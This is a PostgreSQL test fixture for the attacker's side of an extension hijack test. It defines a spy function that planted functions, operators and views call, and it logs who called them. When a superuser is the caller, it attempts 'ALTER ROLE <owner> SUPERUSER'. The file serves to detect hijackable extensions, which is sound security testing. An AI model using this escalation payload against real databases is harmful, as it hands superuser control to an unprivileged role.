-- test/hijack/spy.sql - the attacker's side of test/hijack.sh, run as the
-- database owner (a role without SUPERUSER).
--
-- public.hijack_spy_hit(signature, skip) is what every planted function,
-- aggregate, operator (skip 1: the planted function itself) and view
-- (skip 0) calls: it records who called (current_user, session_user),
-- which planted object, and the function whose statement called it (the
-- extension function that was hijacked, with its line; for a query that C
-- code ran through SPI inside the test's statement, that query),
-- and when the caller is a superuser it tries what a real attacker would:
-- ALTER ROLE <the database owner> SUPERUSER. It reports each (object,
-- caller, user) once per session as a WARNING too, because a row inserted
-- by a statement that then fails is rolled back with it. It never sees
-- the arguments.
\set ON_ERROR_STOP 1
SET client_min_messages = warning;

CREATE TABLE public.hijack_spy (
    current_user_name name NOT NULL,
    session_user_name name NOT NULL,
    signature text NOT NULL,
    caller text NOT NULL,
    escalation text NOT NULL,
    at timestamptz NOT NULL DEFAULT pg_catalog.clock_timestamp()
);
GRANT INSERT ON public.hijack_spy TO PUBLIC;

CREATE FUNCTION public.hijack_spy_hit(sig text, skip integer) RETURNS boolean
LANGUAGE plpgsql
SET search_path = pg_catalog, pg_temp
AS $fn$
DECLARE
    stack text;
    caller text;
    caller_n bigint;
    planted_n bigint;
    spi text;
    nstatements bigint;
    esc text := 'no superuser in the session';
    seen text;
    owner name := (SELECT pg_get_userbyid(d.datdba) FROM pg_database d WHERE d.datname = current_database());
BEGIN
    GET DIAGNOSTICS stack = PG_CONTEXT;
    -- the function lines of the stack: this one, the planted one, the caller
    SELECT btrim(f.l), f.n, f.prev INTO caller, caller_n, planted_n
    FROM (SELECT t.l, t.n, lag(t.n) OVER (ORDER BY t.n) AS prev
          FROM regexp_split_to_table(stack, E'\n') WITH ORDINALITY AS t (l, n)
          WHERE t.l ~ '^\s*(PL/pgSQL function|SQL function)') f
    ORDER BY f.n OFFSET 1 + skip LIMIT 1;
    IF caller IS NULL OR caller ~ 'function (hijack_test\.)?run_op\(' THEN
        -- two statements or more between the planted object and the test's
        -- own code: the inner one is a C function's (SPI) query
        SELECT (array_agg(btrim(t.l) ORDER BY t.n))[1], count(*) INTO spi, nstatements
        FROM regexp_split_to_table(stack, E'\n') WITH ORDINALITY AS t (l, n)
        WHERE t.l ~ '^\s*SQL statement "' AND t.n > coalesce(planted_n, 1)
          AND t.n < coalesce(caller_n, 1000000);
        IF nstatements >= 2 THEN
            caller := 'C code''s query ' || left(regexp_replace(spi, '^SQL statement ', ''), 100);
        ELSE
            caller := '(the test''s own statement)';
        END IF;
    END IF;
    seen := 'hijack.s' || md5(sig || '|' || caller || '|' || current_user);
    IF current_setting(seen, true) IS NOT DISTINCT FROM 'y' THEN
        RETURN NULL;
    END IF;
    PERFORM set_config(seen, 'y', false);
    IF EXISTS (SELECT 1 FROM pg_roles r WHERE r.rolsuper AND r.rolname IN (session_user, current_user)) THEN
        BEGIN
            EXECUTE format('ALTER ROLE %I SUPERUSER', owner);
            esc := 'ALTER ROLE ' || owner || ' SUPERUSER succeeded';
        EXCEPTION WHEN OTHERS THEN
            esc := 'ALTER ROLE refused (' || SQLSTATE || ')';
        END;
    END IF;
    INSERT INTO public.hijack_spy (current_user_name, session_user_name, signature, caller, escalation)
    VALUES (current_user, session_user, sig, caller, esc);
    RAISE WARNING 'HIJACK-SPY %', concat_ws(' | ', sig, caller, 'current_user ' || current_user,
                                             'session_user ' || session_user, esc);
    RETURN NULL;
END
$fn$;
